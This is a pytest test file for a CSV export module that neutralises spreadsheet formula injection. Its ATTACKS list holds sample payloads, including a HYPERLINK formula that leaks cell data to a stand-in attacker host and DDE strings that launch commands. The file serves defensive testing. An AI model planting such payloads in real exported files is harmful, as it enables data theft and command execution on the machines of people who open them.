"""One place neutralises spreadsheet formulas in every CSV cxpulse writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from cxpulse.csvout import TRIGGERS, frame_csv, rows_csv, safe_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_formulas_become_text_and_numbers_stay_numbers() -> None:
    df = pd.DataFrame(
        {
            "segment": [*ATTACKS, "plain", "-1.5", "+3", "-2e3"],
            "value": [-1.5] * 11,
            "n": [-3] * 11,
        }
    )
    rows = _read(frame_csv(df))
    assert rows[0] == ["segment", "value", "n"]
    cells = [r[0] for r in rows[1:]]
    assert cells[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert cells[len(ATTACKS) :] == ["plain", "-1.5", "+3", "-2e3"]  # numbers, not text
    assert {r[1] for r in rows[1:]} == {"-1.5"} and {r[2] for r in rows[1:]} == {"-3"}


def test_column_names_and_categories_are_neutralised_too(tmp_path: Path) -> None:
    df = pd.DataFrame({"=cmd": pd.Categorical(["=1+1", "ok"])})
    path = tmp_path / "out.csv"
    frame_csv(df, path)
    assert _read(path.read_text(encoding="utf-8")) == [["'=cmd"], ["'=1+1"], ["ok"]]


def test_rows_csv_writes_none_as_empty_with_crlf() -> None:
    text = rows_csv(["a", "b"], [["=x", None], [-1.5, "@y"]])
    assert text == "a,b\r\n'=x,\r\n-1.5,'@y\r\n"


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_is_lost(value: str) -> None:
    cell = safe_cell(value)
    assert cell == value or cell == "'" + value
    if cell == value and value.startswith(TRIGGERS):
        float(value)  # only a plain number is left as it is


def test_a_carriage_return_inside_a_value_keeps_its_row_whole() -> None:
    df = pd.DataFrame({"comment": ["a\rb", "c\nd"], "n": [1, 2]})
    assert _read(frame_csv(df)) == [["comment", "n"], ["a\rb", "1"], ["c\nd", "2"]]


def test_arrow_text_columns_are_neutralised_too() -> None:
    import pyarrow as pa

    frame = pd.DataFrame(
        {"page": pd.Series(["=HYPERLINK(1)", "/ok"], dtype=pd.ArrowDtype(pa.string()))}
    )
    assert next(csv.reader(io.StringIO(frame_csv(frame).splitlines()[1])))[0] == "'=HYPERLINK(1)"
